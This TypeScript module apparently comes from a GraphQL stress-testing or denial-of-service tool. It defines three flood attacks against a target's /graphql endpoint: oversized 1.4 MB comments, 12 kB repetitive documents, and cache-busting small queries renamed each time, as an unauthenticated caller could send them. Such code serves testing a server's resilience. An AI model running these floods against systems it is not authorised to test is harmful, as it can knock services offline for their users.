import type { Attack } from './attack.ts';
import { flood } from './flood.ts';

const digits = 12;
const place = '0'.repeat(digits);

/** Creates bodies that differ in the number at `place`. Reuses the same memory, so that creating them is free. */
function bodies(template: string): () => (serial: number) => { readonly path: string; readonly body: Buffer } {
  const at = template.indexOf(place);
  return () => {
    const body = Buffer.from(template);
    return (serial) => {
      body.write(String(serial).padStart(digits, '0'), at);
      return { path: '/graphql', body };
    };
  };
}

const comment = JSON.stringify({ query: `#${place}${'x'.repeat(1_400_000)}\n{ __typename }` });
const distinct = JSON.stringify({ query: `query Q${place} { head { ${'height '.repeat(1_700)}} }` });

const small = JSON.stringify({ query: `query Q${place} { groups(first: 9) { nodes { id } } }` });

/** A comment of 1.4 MB before a short query, different each time. */
export const comments: Attack = {
  name: 'comments',
  description: 'a distinct comment of 1.4 MB before a short query',
  run: (target, options) => flood(target, options, bodies(comment)),
};

/** A document of 12 kB, different each time. */
export const documents: Attack = {
  name: 'documents',
  description: 'distinct documents of 12 kB',
  run: (target, options) => flood(target, options, bodies(distinct)),
};

/** A small query under another name each time, as a caller without a token may send it. */
export const smallQueries: Attack = {
  name: 'smallQueries',
  description: 'distinct small queries',
  run: (target, options) => flood(target, options, bodies(small)),
};
